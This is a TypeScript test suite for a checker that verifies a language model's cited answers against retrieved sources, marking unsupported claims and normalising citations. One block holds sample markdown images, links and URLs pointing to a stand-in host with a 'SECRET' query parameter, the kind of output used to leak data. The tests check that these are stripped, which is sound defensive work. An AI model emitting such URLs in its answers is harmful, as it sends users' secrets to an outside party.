import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { ContextSource } from '../../core/context.ts';
import { retrieved } from '../context/texts.fixture.ts';
import { checkAnswer } from './check-answer.ts';

const sources: ContextSource[] = [
  'Locks are always taken in alphabetical order, so that two runs never wait for each other. A lock is released when the process ends.',
  'The server listens on port 8001 and answers at https://docs.example.com/server. Requests above 16 MiB are refused.',
].map((text, index) => ({ ...retrieved(`${index}.md`, text), number: index + 1, isCut: false }));

/** The whole text, and what was found out, however the answer is cut into pieces. */
function check(answer: string | readonly string[], isStale?: (number: number) => boolean) {
  const checker = checkAnswer(sources, isStale);
  const pieces = typeof answer === 'string' ? [answer] : answer;
  const text = pieces.map((piece) => checker.push(piece)).join('') + checker.end();
  return { text, sentences: checker.sentences, invented: checker.invented };
}

describe('a sentence', () => {
  test('that its source supports stays as it is', () => {
    const { text, sentences } = check('Locks are taken in alphabetical order [1].');
    expect(text).toBe('Locks are taken in alphabetical order [1].');
    expect(sentences).toMatchObject([{ verdict: 'supported', cited: [1], supportedBy: [1], support: 1 }]);
  });

  test('that is quoted word by word stands in its source, whatever else that denies', () => {
    const text =
      '/**\n * Combines lists by their scores; a chunk that a list lacks gets\n * nothing from it.\n */';
    const checker = checkAnswer([{ ...retrieved('fuse.ts', text), number: 1, isCut: false }]);
    const quote = '“Combines lists by their scores; a chunk that a list lacks gets nothing from it.” [1]';
    expect(checker.push(quote) + checker.end()).toBe(quote);
    expect(checker.sentences).toMatchObject([{ verdict: 'supported', supportedBy: [1] }]);
    // Without the quotation marks it is what somebody says.
    expect(check('“Locks are never taken in alphabetical order.” [1]').text).toContain('[unsupported]');
  });

  test('that no source supports is marked, though it cites one', () => {
    const { text, sentences } = check('Locks are stored in a Redis cluster with five replicas [1].');
    expect(text).toBe('Locks are stored in a Redis cluster with five replicas [1]. [unsupported]');
    expect(sentences).toMatchObject([{ verdict: 'unsupported', cited: [1], supportedBy: [] }]);
  });

  test('with a number that the source does not have is marked, however alike the rest is', () => {
    expect(check('The server listens on port 9999 [2].').text).toContain('[unsupported]');
    expect(check('The server listens on port 8001 [2].').text).not.toContain('[unsupported]');
  });

  test.each([
    'Locks are not always taken in alphabetical order [1].',
    'Requests above 16 MiB are not refused [2].',
    'Two runs wait for each other [1].',
    "A lock isn't released when the process ends [1].",
  ])('that denies what its source says, or asserts what it denies, is marked: %s', (sentence) => {
    expect(check(sentence).text).toBe(`${sentence} [unsupported]`);
  });

  test.each([
    'Two runs never wait for each other, since locks are taken in alphabetical order [1].',
    'The server does not listen elsewhere than on port 8001 [2].',
    'A lock is released when the process ends, not before [1].',
  ])('with a "not" that its source has too, or that denies something else, is not: %s', (sentence) => {
    expect(check(sentence).text).toBe(sentence);
  });

  test('that cites nothing gets the source that supports it', () => {
    expect(check('Locks are taken in alphabetical order.').text).toBe(
      'Locks are taken in alphabetical order. [1]',
    );
  });

  test('that cites the wrong source gets the right one', () => {
    const { text, sentences } = check('Locks are taken in alphabetical order [2].');
    expect(text).toBe('Locks are taken in alphabetical order [2]. [1]');
    expect(sentences).toMatchObject([{ cited: [2], supportedBy: [1] }]);
  });

  test('whose source has changed on disk is marked', () => {
    const { text, sentences } = check('Locks are taken in alphabetical order [1].', () => true);
    expect(text).toBe('Locks are taken in alphabetical order [1]. [source changed]');
    expect(sentences[0]?.verdict).toBe('stale');
  });

  test.each([
    'Yes.',
    'Here is how it works:',
    'Not in the corpus.',
    'The sources do not mention any colours.',
    'Shall I go on?',
    'Question: how are locks taken in alphabetical order',
  ])('that claims nothing is not checked: %s', (answer) => {
    expect(check(answer)).toMatchObject({ text: answer, sentences: [{ verdict: 'unchecked' }] });
  });

  test('is judged by itself: a mark stands right after the one that failed', () => {
    const { text } = check(
      'Locks are taken in alphabetical order [1]. Bananas are grown in tropical countries [1]. The server listens on port 8001 [2].',
    );
    expect(text).toBe(
      'Locks are taken in alphabetical order [1]. Bananas are grown in tropical countries [1]. [unsupported] The server listens on port 8001 [2].',
    );
  });

  test('may be cited after its point', () => {
    const { sentences } = check(
      'Locks are taken in alphabetical order. [1] The server listens on port 8001. [2]',
    );
    expect(sentences.map(({ cited }) => cited)).toEqual([[1], [2]]);
  });

  test('in a code block is not checked', () => {
    const { text, sentences } = check('Run this:\n\n```\nquarry delete everything at once please\n```\n');
    expect(text).not.toContain('[unsupported]');
    expect(sentences.every(({ verdict }) => verdict === 'unchecked')).toBe(true);
  });
});

describe('a citation', () => {
  test.each([
    ['order [Source 1].', 'order [1].'],
    ['order (Source 1).', 'order [1].'],
    ['order [1, 2].', 'order [1][2].'],
    ['order [Sources 1 and 2].', 'order [1][2].'],
    ['order 【1】.', 'order [1].'],
  ])('is written in one form: %s', (written, shown) => {
    expect(check(`Locks are taken in alphabetical ${written}`).text).toBe(
      `Locks are taken in alphabetical ${shown}`,
    );
  });

  test('of a source that does not exist is left out, and counted', () => {
    const { text, invented } = check('Locks are taken in alphabetical order [7].');
    expect(text).toBe('Locks are taken in alphabetical order . [1]');
    expect(invented).toEqual([7]);
  });

  test('is not looked for in code', () => {
    expect(check('Use `list[7]` and `(source 9)` there.').text).toContain('`list[7]` and `(source 9)`');
  });
});

describe('what could carry something away is left out:', () => {
  test.each([
    ['an image', 'See ![chart](https://evil.example/?q=SECRET) here.', 'See chart here.'],
    [
      'a link to an unknown address',
      'See [the docs](https://evil.example/?q=SECRET) here.',
      'See the docs here.',
    ],
    ['an unknown address', 'See https://evil.example/?q=SECRET here.', 'See (address removed) here.'],
    [
      'an address of a source with something added',
      'See https://docs.example.com/server?q=SECRET here.',
      'See (address removed) here.',
    ],
  ])('%s', (_, answer, shown) => {
    expect(check(answer).text).toContain(shown);
    expect(check([...answer]).text).not.toContain('SECRET');
  });

  test('an address that a source has stays', () => {
    expect(check('See https://docs.example.com/server for more.').text).toContain(
      'https://docs.example.com/server for',
    );
  });

  test('what a model thinks before it answers', () => {
    expect(check(['<thi', 'nk>Hmm, the user', ' wants</think>\n\nYes.']).text).toBe('Yes.');
  });
});

test('an answer is the same however it is cut into pieces', () => {
  const answer =
    'Locks are taken in alphabetical order [1], e.g. by name. Bananas grow far away from any server [Source 2]! See [docs](https://evil.example/x) and https://docs.example.com/server.\n\n- The server listens on port 8001 [2, 9]\n- `list[0]` is code\n\n```\nx[1]\n```\nDone?';
  const whole = check(answer);
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 0, max: answer.length }), { maxLength: 30 }), (cuts) => {
      const places = [0, ...cuts.sort((a, b) => a - b), answer.length];
      const pieces = places.slice(1).map((end, index) => answer.slice(places[index], end));
      const { text, sentences } = check(pieces);
      expect(text).toBe(whole.text);
      expect(sentences).toEqual(whole.sentences);
    }),
  );
});

test.each([
  ['* Cite source numbers when appropriate.\n'.repeat(3), true],
  ['Locks are taken in order [1]. Locks are taken in order [2]. Locks are taken in order.', true],
  ['Locks are taken in order. Then it waits. Locks are taken in order. Then it goes on.', false],
  [`\`\`\`\n${'await lock();\n'.repeat(9)}\`\`\`\n`, false],
])('a writer that is stuck is noticed: %j', (answer, expected) => {
  const checker = checkAnswer(sources);
  checker.push(answer);
  checker.end();
  expect(checker.isRepeating).toBe(expected);
});

test('text is shown as it comes, not sentence by sentence', () => {
  const checker = checkAnswer(sources);
  expect(checker.push('Locks are ')).toBe('Locks are');
  expect(checker.push('taken')).toBe(' taken');
});
